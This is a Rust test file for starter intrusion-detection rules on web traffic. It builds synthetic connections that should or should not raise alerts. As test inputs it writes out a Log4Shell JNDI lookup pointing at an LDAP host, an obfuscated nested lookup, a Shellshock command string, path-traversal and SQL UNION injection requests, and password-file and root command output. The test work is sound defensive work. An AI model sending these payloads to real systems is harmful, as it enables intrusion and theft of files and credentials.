//! Cases of the starter rules for the web, 9000001 to 9000011.

use super::{
    case::{Case, Expect, Run},
    payload::{self, get, request, response},
};
use crate::traffic::{Record, Side, TcpSession, Wire};

const CLIENT: &str = "203.0.113.40";
const SERVER: &str = "10.20.0.80";
const HOST: &str = "intranet.example";

/// A whole connection with one request and one response.
fn web(wire: Wire, request: &[u8], response: &[u8]) -> Vec<Record> {
    let session = TcpSession::new(wire, 40_080, 80).handshake();
    session.client(request).server(response).close(Side::Client).records()
}

fn asked(bytes: &[u8]) -> Vec<Record> {
    web(Wire::of(CLIENT, SERVER), bytes, &response("404 Not Found", "text/plain", b"nothing here\n"))
}

fn answered(bytes: &[u8]) -> Vec<Record> {
    web(Wire::of("10.20.3.7", "198.51.100.80"), &get("/page", "www.example"), &response("200 OK", "text/plain", bytes))
}

/// Hit and near miss of a rule for requests.
fn in_request(name: &'static str, about: &'static str, sid: u64, hit: &[u8], quiet: &[u8]) -> Case {
    let alert = Expect::alert(sid).with("src_ip", CLIENT).with("dest_port", 80);
    Case::starter(
        name,
        about,
        vec![Run::of("hit", asked(hit)).and(alert).at_most(1), Run::silent("quiet", asked(quiet))],
    )
}

/// Hit and near miss of a rule for responses.
fn in_response(name: &'static str, about: &'static str, sid: u64, hit: &[u8], quiet: &[u8]) -> Case {
    let alert = Expect::alert(sid).with("src_ip", "198.51.100.80").with("src_port", 80);
    let hit = Run::of("hit", answered(hit)).and(alert).at_most(1);
    Case::starter(name, about, vec![hit, Run::silent("quiet", answered(quiet))])
}

/// A rule that drops: passive it only alerts, inline neither `marker` nor the answer gets through.
fn dropped_inline(case: &mut Case, sid: u64, forwarded: u64, marker: &str) {
    let drop = Expect::event("drop").with("drop.reason", "rules").with("alert.signature_id", sid);
    let alert = Expect::alert(sid).with("alert.action", "blocked");
    let run = Run::over("hit", None).inline(true).and(alert).and(drop).at_most(1);
    case.runs.push(run.forwards(forwarded, &[marker], &[]));
}

/// The cases.
pub fn cases() -> Vec<Case> {
    let agent = |text: &str| request("GET /", HOST, &[&format!("User-Agent: {text}")], "");
    let lookup = agent("${jndi:ldap://198.51.100.9:1389/a}");
    let mut log4shell = in_request(
        "starter-log4shell",
        "A jndi lookup in a request alerts; the words without the lookup, and the lookup in an answer, do not.",
        9_000_001,
        &lookup,
        &agent("${jndi} and $jndi:ldap://198.51.100.9/a"),
    );
    let mut six = Wire::of("2001:db8:40::9", "2001:db8:20::80");
    six.ttl = [60, 64];
    let over_six = web(six, &lookup, &response("200 OK", "text/plain", b"ok\n"));
    log4shell.runs.push(Run::alerts("hit-ipv6", over_six, 9_000_001, 1));
    log4shell
        .runs
        .push(Run::silent("quiet-answer", answered(b"They send ${jndi:ldap://198.51.100.9:1389/a} to you.\n")));
    dropped_inline(&mut log4shell, 9_000_001, 3, "jndi");

    let mut shellshock = in_request(
        "starter-shellshock",
        "A function with a command after it in a request alerts; a function without one does not.",
        9_000_005,
        &agent("() { :; }; /bin/id"),
        &request("POST /run", HOST, &[], "window.onload = function() { start() }\n"),
    );
    dropped_inline(&mut shellshock, 9_000_005, 3, "/bin/id");

    let mut eicar = in_response(
        "starter-eicar",
        "The EICAR test file in an answer alerts; a text that quotes half of it does not.",
        9_000_009,
        payload::EICAR.concat().as_bytes(),
        format!("The file begins with {} and ends elsewhere.\n", payload::EICAR[0]).as_bytes(),
    );
    dropped_inline(&mut eicar, 9_000_009, 5, "STANDARD-ANTIVIRUS");

    vec![
        log4shell,
        in_request(
            "starter-nested-lookup",
            "A lookup spelled letter by letter alerts; two shell variables with defaults do not.",
            9_000_002,
            &agent("${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/a}"),
            &request("POST /env", HOST, &[], "a=${HOME:-/root} ${USER:-none}\n"),
        ),
        in_request(
            "starter-path-traversal",
            "Two steps up in a request line alert; two in a header, and two in a body that quotes a request, do not.",
            9_000_003,
            &get("/static/../../../etc/hosts", HOST),
            &request(
                "POST /log/../report",
                HOST,
                &["Referer: http://intranet.example/a/b/../../c"],
                "refused: GET /a/../../b HTTP/1.1\n",
            ),
        ),
        in_request(
            "starter-path-traversal-encoded",
            "Two encoded steps up alert, in either case of letters; one, and dots without a slash between, do not.",
            9_000_004,
            &get("/static/%2e%2E%2f%2e%2e%2fetc/hosts", HOST),
            &get("/static/%2e%2e%2flogo.png?v=%2e%2e--%2e%2e", HOST),
        ),
        shellshock,
        in_request(
            "starter-sql-union",
            "UNION ALL SELECT in a request alerts; a credit union and a selection do not.",
            9_000_006,
            &get("/item?id=1%20UNION%20ALL%20SELECT%20name,secret%20FROM%20users--", HOST),
            &get("/search?q=credit+union+hours&sort=selected", HOST),
        ),
        in_response(
            "starter-password-file",
            "A password file in an answer alerts; a sentence about its first line does not.",
            9_000_007,
            b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
            b"The entry root:x:0:0: comes first, and its shell last.\n",
        ),
        in_response(
            "starter-root-command-output",
            "What id prints for root alerts; what it prints for a person does not.",
            9_000_008,
            b"uid=0(root) gid=0(root) groups=0(root)\n",
            b"uid=1000(anna) gid=1000(anna) groups=1000(anna),27(sudo)\n",
        ),
        eicar,
        script_download(),
    ]
}

/// 9000010 and 9000011: a flow bit carried from the request to the response.
fn script_download() -> Case {
    let fetch = |agent: &str, port: u16, kind: &str, body: &[u8]| {
        let wire = Wire::of("10.20.3.7", "198.51.100.80");
        let asked = request("GET /update.bin", "files.example", &[&format!("User-Agent: {agent}")], "");
        let session = TcpSession::new(wire, port, 80).handshake().client(&asked);
        session.server(&response("200 OK", kind, body)).close(Side::Server).records()
    };
    let script = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1";
    let program = payload::windows_program();
    let hit = fetch(script, 40_001, "application/octet-stream", &program);
    let mut quiet = fetch(payload::BROWSER, 40_002, "application/octet-stream", &program);
    quiet.extend(fetch(script, 40_003, "text/plain", b"MZ is the mark of Mark Zbikowski.\n"));
    Case::starter(
        "starter-program-by-script",
        "A program fetched by PowerShell alerts; one fetched by a browser, and a text fetched by PowerShell, do not.",
        vec![Run::alerts("hit", hit, 9_000_011, 1), Run::silent("quiet", quiet)],
    )
}
